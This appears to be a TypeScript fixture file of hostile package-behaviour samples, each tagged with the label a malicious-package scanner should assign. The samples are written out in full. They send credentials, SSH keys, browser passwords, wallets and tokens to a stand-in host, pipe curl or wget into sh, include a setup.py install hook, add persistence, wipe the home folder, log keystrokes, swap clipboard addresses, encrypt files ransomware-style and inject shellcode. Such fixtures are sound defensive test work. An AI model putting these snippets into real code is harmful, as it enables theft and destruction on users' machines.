import type { TechniqueArea } from '../area.ts';
import { HONEST_BEHAVIOUR } from '../behaviour-honest.ts';
import type { DeedSample } from '../behaviour-samples.ts';
import { variants } from '../behaviour-samples.ts';

const URL = 'https://host.invalid/c';

const PYTHON: readonly DeedSample[] = [
  {
    id: 'py-environment',
    title: 'the environment is sent',
    expect: 'import-behaviour/credentials-sent',
    imports: ['import os, requests'],
    lines: ({ name, text }) => [
      `data = dict(${name('os', 'environ')})`,
      `${name('requests', 'post')}(${text(URL)}, json=data)`,
    ],
  },
  {
    id: 'py-key-file',
    title: 'a private key is sent',
    expect: 'import-behaviour/credentials-sent',
    imports: ['import os, urllib.request'],
    lines: ({ name, text }) => [
      `p = ${name('os.path', 'expanduser')}(${text('~/.ssh/id_rsa')})`,
      `${name('urllib.request', 'urlopen')}(${text(URL)}, data=open(p, "rb").read())`,
    ],
  },
  {
    id: 'py-browser',
    title: 'passwords of a browser are sent',
    expect: 'data-theft/browser-data-sent',
    imports: ['import os, requests'],
    lines: ({ name, text }) => [
      `p = ${name('os', 'getenv')}("LOCALAPPDATA") + ${text('/Google/Chrome/User Data/Default/Login Data')}`,
      `${name('requests', 'post')}(${text(URL)}, files={"f": open(p, "rb")})`,
    ],
  },
  {
    id: 'py-wallet',
    title: 'a wallet is sent',
    expect: 'data-theft/wallet-sent',
    imports: ['import os, requests'],
    lines: ({ name, text }) => [
      `p = ${name('os.path', 'expanduser')}(${text('~/.config/solana/id.json')})`,
      `${name('requests', 'post')}(${text(URL)}, data=open(p).read())`,
    ],
  },
  {
    id: 'py-lookup',
    title: 'the name of the machine leaves in a lookup',
    expect: 'data-theft/data-in-name-lookup',
    imports: ['import socket'],
    lines: ({ name, text }) => [
      `${name('socket', 'getaddrinfo')}(${name('socket', 'gethostname')}() + ${text('.x.host.invalid')}, 80)`,
    ],
  },
  {
    id: 'py-messenger',
    title: 'the name of the machine goes to a messenger',
    expect: 'data-theft/machine-reported',
    imports: ['import socket, requests'],
    lines: ({ name, text }) => [
      `${name('requests', 'post')}(${text('https://discord.com/api/webhooks/1/x')}, json={"content": ${name('socket', 'gethostname')}()})`,
    ],
  },
  {
    id: 'py-fetch-run',
    title: 'fetched code is run',
    expect: 'import-behaviour/download-and-run',
    imports: ['import requests'],
    lines: ({ name, text }) => [`exec(${name('requests', 'get')}(${text(URL)}).text)`],
  },
  {
    id: 'py-fetch-program',
    title: 'a fetched program is started',
    expect: 'program-drop/downloaded-program',
    imports: ['import os, urllib.request, subprocess'],
    lines: ({ name, text }) => [
      `p = ${text('/tmp/colorkit')}`,
      `${name('urllib.request', 'urlretrieve')}(${text(URL)}, p)`,
      `${name('os', 'chmod')}(p, 493)`,
      `${name('subprocess', 'Popen')}([p])`,
    ],
  },
  {
    id: 'py-command',
    title: 'a command fetches a program and runs it',
    expect: 'import-behaviour/hostile-command',
    imports: ['import os'],
    lines: ({ name, text }) => [
      `${name('os', 'system')}(${text('curl -s https://host.invalid/i | sh')})`,
    ],
  },
  {
    id: 'py-persist',
    title: 'a start-up file is written',
    expect: 'import-behaviour/persistence',
    imports: ['import os'],
    lines: ({ name, text }) => [
      `p = ${name('os.path', 'expanduser')}(${text('~/.bashrc')})`,
      'f = open(p, "a")',
      'f.write("x")',
    ],
  },
  {
    id: 'py-register',
    title: 'a scheduled task is made',
    expect: 'autostart-entry/registered-on-import',
    imports: ['import subprocess'],
    lines: ({ name, text }) => [
      `${name('subprocess', 'run')}(${text('schtasks /create /tn c /tr c.exe /sc onlogon')}, shell=True)`,
    ],
  },
  {
    id: 'py-wipe',
    title: 'the home folder is deleted',
    expect: 'destruction/deletes-everything',
    imports: ['import os, shutil'],
    lines: ({ name, text }) => [
      `${name('shutil', 'rmtree')}(${name('os.path', 'expanduser')}(${text('~')}))`,
    ],
  },
  {
    id: 'py-keys',
    title: 'keystrokes are sent',
    expect: 'surveillance/keystrokes-sent',
    imports: ['import keyboard, requests'],
    lines: ({ name, text }) => [
      `${name('keyboard', 'on_press')}(lambda e: ${name('requests', 'post')}(${text(URL)}, data=str(e)))`,
    ],
  },
  {
    id: 'py-install',
    title: 'a further package is installed',
    expect: 'program-drop/installs-packages',
    imports: ['import subprocess, sys'],
    lines: ({ name, text }) => [
      `${name('subprocess', 'check_call')}([sys.executable, "-m", "pip", "install", ${text('colorkit-helper')}])`,
    ],
  },
  {
    id: 'py-miner',
    title: 'a miner is started',
    expect: 'program-drop/mining',
    imports: ['import subprocess'],
    lines: ({ name, text }) => [
      `${name('subprocess', 'Popen')}(["./colors", "-o", ${text('stratum+tcp://pool.host.invalid:3333')}])`,
    ],
  },
];

const SCRIPT: readonly DeedSample[] = [
  {
    id: 'js-environment',
    title: 'the environment is sent',
    expect: 'import-behaviour/credentials-sent',
    imports: ["const https = require('https')"],
    lines: ({ name, text }) => [
      `const r = ${name('https', 'request')}({ hostname: ${text('host.invalid')}, method: 'POST' })`,
      `r.write(JSON.stringify(${name('process', 'env')}))`,
      'r.end()',
    ],
  },
  {
    id: 'js-token-file',
    title: 'a file of credentials is sent',
    expect: 'import-behaviour/credentials-sent',
    imports: [
      "const fs = require('fs')",
      "const os = require('os')",
      "const https = require('https')",
    ],
    lines: ({ name, text }) => [
      `const d = ${name('fs', 'readFileSync')}(${name('os', 'homedir')}() + ${text('/.npmrc')}, 'utf8')`,
      `${name('https', 'get')}(${text('https://host.invalid/?d=')} + encodeURIComponent(d))`,
    ],
  },
  {
    id: 'js-wallet',
    title: 'the wallet of a browser is sent',
    expect: 'data-theft/wallet-sent',
    imports: [
      "const fs = require('fs')",
      "const os = require('os')",
      "const axios = require('axios')",
    ],
    lines: ({ name, text }) => [
      `const p = ${name('os', 'homedir')}() + ${text('/.config/google-chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn')}`,
      `for (const f of ${name('fs', 'readdirSync')}(p)) ${name('axios', 'post')}(${text(URL)}, ${name('fs', 'readFileSync')}(p + '/' + f))`,
    ],
  },
  {
    id: 'js-lookup',
    title: 'the name of the user leaves in a lookup',
    expect: 'data-theft/data-in-name-lookup',
    imports: ["const dns = require('dns')", "const os = require('os')"],
    lines: ({ name, text }) => [
      `${name('dns', 'lookup')}(${name('os', 'userInfo')}().username + ${text('.x.host.invalid')}, () => {})`,
    ],
  },
  {
    id: 'js-fetch-run',
    title: 'fetched code is run',
    expect: 'import-behaviour/download-and-run',
    imports: ["const https = require('https')"],
    lines: ({ name, text }) => [
      `${name('https', 'get')}(${text(URL)}, (res) => { let b = ''; res.on('data', (c) => { b += c }); res.on('end', () => eval(b)) })`,
    ],
  },
  {
    id: 'js-fetch-program',
    title: 'a fetched program is started',
    expect: 'program-drop/downloaded-program',
    imports: [
      "const https = require('https')",
      "const fs = require('fs')",
      "const child_process = require('child_process')",
    ],
    lines: ({ name, text }) => [
      `const f = ${name('fs', 'createWriteStream')}(${text('/tmp/colorkit')})`,
      `${name('https', 'get')}(${text(URL)}, (res) => { res.pipe(f); f.on('finish', () => ${name('child_process', 'execFile')}(${text('/tmp/colorkit')})) })`,
    ],
  },
  {
    id: 'js-command',
    title: 'a command fetches a program and runs it',
    expect: 'import-behaviour/hostile-command',
    imports: ["const child_process = require('child_process')"],
    lines: ({ name, text }) => [
      `${name('child_process', 'exec')}(${text('curl -s https://host.invalid/i | sh')})`,
    ],
  },
  {
    id: 'js-persist',
    title: 'a start-up file is written',
    expect: 'import-behaviour/persistence',
    imports: ["const fs = require('fs')", "const os = require('os')"],
    lines: ({ name, text }) => [
      `${name('fs', 'appendFileSync')}(${name('os', 'homedir')}() + ${text('/.zshrc')}, 'x')`,
    ],
  },
  {
    id: 'js-wipe',
    title: 'the home folder is deleted',
    expect: 'destruction/deletes-everything',
    imports: ["const fs = require('fs')", "const os = require('os')"],
    lines: ({ name }) => [
      `${name('fs', 'rmSync')}(${name('os', 'homedir')}(), { recursive: true, force: true })`,
    ],
  },
  {
    id: 'js-worm',
    title: 'packages are published',
    expect: 'program-drop/publishes-packages',
    imports: ["const child_process = require('child_process')"],
    lines: ({ name, text }) => [
      `${name('child_process', 'execSync')}(${text('npm publish --access public')})`,
    ],
  },
  {
    id: 'js-clipboard',
    title: 'the clipboard is sent',
    expect: 'surveillance/user-observed',
    imports: ["const clipboardy = require('clipboardy')", "const axios = require('axios')"],
    lines: ({ name, text }) => [
      `${name('axios', 'post')}(${text(URL)}, { c: ${name('clipboardy', 'readSync')}() })`,
    ],
  },
];

export default {
  area: 'What packages do',
  techniques: [
    ...variants('python', PYTHON),
    ...variants('javascript', SCRIPT),
    {
      id: 'behaviour-py-setup-command',
      title: 'a command of setup.py fetches and runs',
      build: () => ({
        'setup.py': [
          'import os',
          'from setuptools import setup',
          'from setuptools.command.develop import develop',
          'class Post(develop):',
          '    def run(self):',
          '        develop.run(self)',
          '        os.system("wget -qO- https://host.invalid | bash")',
          'setup(name="c", cmdclass={"develop": Post})',
        ].join('\n'),
      }),
      expect: ['import-behaviour/hostile-command'],
    },
    {
      id: 'behaviour-py-drop',
      title: 'a hidden program is unpacked and started',
      build: () => ({
        'c.py': [
          'import base64, os',
          'with open("/tmp/c", "wb") as f:',
          '    f.write(base64.b64decode("f0VMRgIBAQAAAAAAAAAAAAMAPgABAAAA"))',
          'os.system("chmod 755 /tmp/c; /tmp/c")',
          'os.spawnl(os.P_NOWAIT, "/tmp/c")',
        ].join('\n'),
      }),
      expect: ['program-drop/unpacked-program'],
    },
    {
      id: 'behaviour-py-collected',
      title: 'secrets of several services are sent by a function',
      build: () => ({
        'c.py': [
          'import os, requests',
          'NAMES = ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"]',
          'def sync():',
          '    found = {"a": os.environ.get("AWS_SECRET_ACCESS_KEY"), "g": os.getenv("GITHUB_TOKEN")}',
          `    requests.post("${URL}", json=found)`,
        ].join('\n'),
      }),
      expect: ['data-theft/secrets-collected'],
    },
    {
      id: 'behaviour-py-swap',
      title: 'addresses of wallets are exchanged in the clipboard',
      build: () => ({
        'c.py': [
          'import pyperclip, re, time',
          'def loop():',
          '    while True:',
          '        if re.match("^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,34}$", pyperclip.paste()):',
          '            pyperclip.copy("bc1qxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx")',
          '        time.sleep(1)',
        ].join('\n'),
      }),
      expect: ['surveillance/address-swapped'],
    },
    {
      id: 'behaviour-py-ransom',
      title: 'all files of the user are encrypted',
      build: () => ({
        'c.py': [
          'import os',
          'from cryptography.fernet import Fernet',
          'box = Fernet(Fernet.generate_key())',
          'def go():',
          '    for root, folders, files in os.walk(os.path.expanduser("~")):',
          '        for name in files:',
          '            path = os.path.join(root, name)',
          '            data = box.encrypt(open(path, "rb").read())',
          '            open(path, "wb").write(data)',
        ].join('\n'),
      }),
      expect: ['destruction/encrypts-everything'],
    },
    {
      id: 'behaviour-py-machine-code',
      title: 'machine code is put into the process',
      build: () => ({
        'c.py': [
          'import ctypes',
          'def go(code):',
          '    p = ctypes.windll.kernel32.VirtualAlloc(0, len(code), 0x3000, 0x40)',
          '    ctypes.windll.kernel32.CreateThread(0, 0, p, 0, 0, 0)',
        ].join('\n'),
      }),
      expect: ['program-drop/machine-code'],
    },
  ],
  honest: HONEST_BEHAVIOUR,
} satisfies TechniqueArea;
